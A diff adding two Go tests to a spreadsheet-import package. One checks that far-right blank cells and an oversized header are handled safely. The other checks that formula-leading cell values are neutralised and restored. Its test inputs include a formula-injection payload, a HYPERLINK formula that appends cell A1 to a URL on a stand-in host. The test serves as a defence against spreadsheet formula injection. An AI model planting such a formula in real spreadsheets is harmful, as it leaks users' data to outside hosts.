@@ -434,3 +434,44 @@ func TestReadingAWorkbookLeavesNoFilesBehind(t *testing.T) {
 		t.Errorf("left behind: %v", left)
 	}
 }
+
+func TestABlankFarToTheRightIsNoColumnAndAHeaderWithoutEndIsRefused(t *testing.T) {
+	file := func(farHead string) []byte {
+		f := excelize.NewFile()
+		defer f.Close()
+		for cell, v := range map[string]string{"A1": "名称", "B1": "统一社会信用代码", "C1": "住所", "A2": "重庆小面馆", "B2": "", "C2": "王家坡1号", "XFD2": " ", "XFD1": farHead} {
+			if v != "" {
+				if err := f.SetCellStr("Sheet1", cell, v); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+		var b bytes.Buffer
+		if err := f.Write(&b); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	read, err := readWorkbook(file(""), enterpriseColumns)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(read.Rows) != 1 || cap(read.Rows[0].Cells) > 16 {
+		t.Errorf("%d rows, room for %d cells", len(read.Rows), cap(read.Rows[0].Cells))
+	}
+	if _, err := readWorkbook(file("备注"), enterpriseColumns); err == nil || !strings.Contains(err.Error(), CodeTooLarge) {
+		t.Error("a header of 16384 columns:", err)
+	}
+}
+
+func TestTheListOfBadRowsIsNoFormulaWhenItIsOpenedAndIsReadBackAsItWas(t *testing.T) {
+	for _, cell := range []string{`=HYPERLINK("http://x/?"&A1)`, "+86 13800000000", "-1", "@a", "王家坡", "", "'quoted"} {
+		kept := guarded(cell)
+		if strings.ContainsAny(kept[:min(1, len(kept))], formulaSigns) {
+			t.Errorf("%q is a formula in a spreadsheet", kept)
+		}
+		if back := unguarded(kept); back != cell {
+			t.Errorf("%q came back as %q", cell, back)
+		}
+	}
+}
